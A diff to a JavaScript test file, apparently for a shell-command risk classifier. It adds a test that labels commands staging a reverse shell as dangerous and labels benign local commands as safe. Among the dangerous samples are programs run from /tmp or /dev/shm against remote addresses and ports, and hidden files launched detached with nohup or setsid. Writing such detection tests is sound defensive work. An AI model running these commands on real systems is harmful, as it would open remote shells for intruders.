@@ -227,3 +227,21 @@ test('a URL that carries a secret-named parameter hands it to the host; local UR
     x('B', 'curl "http://localhost:3000/login?user=a&password=s3cr3tpass"'),
   ]);
 });
+
+test('a program dropped in a temporary folder and run against a remote address, or hidden and detached, stages a reverse shell', () => {
+  check([
+    x('D', 'go run /tmp/rs.go 203.0.113.10:4444'),
+    x('D', 'java -jar /tmp/revshell.jar 10.0.0.1 4444'),
+    x('D', 'nohup python3 /tmp/.s.py >/dev/null 2>&1 &'),
+    x('D', '/dev/shm/.x 198.51.100.7 443'),
+    x('D', 'chmod +x /tmp/a && /tmp/a 203.0.113.5 8080'),
+    x('D', 'setsid /var/tmp/.cache-upd'),
+    x('B', 'python3 /tmp/test_server.py 127.0.0.1:8000'),
+    x('B', 'python3 /tmp/check.py'),
+    x('B', 'go run /tmp/main.go'),
+    x('B', 'node /tmp/scratch.js > /dev/null &'),
+    x('B', 'nohup node server.js > /dev/null 2>&1 &'),
+    x('B', 'python3 /tmp/bench.py --host 10.0.0.5'),
+    x('B', './bin/server --listen 0.0.0.0:8080'),
+  ]);
+});
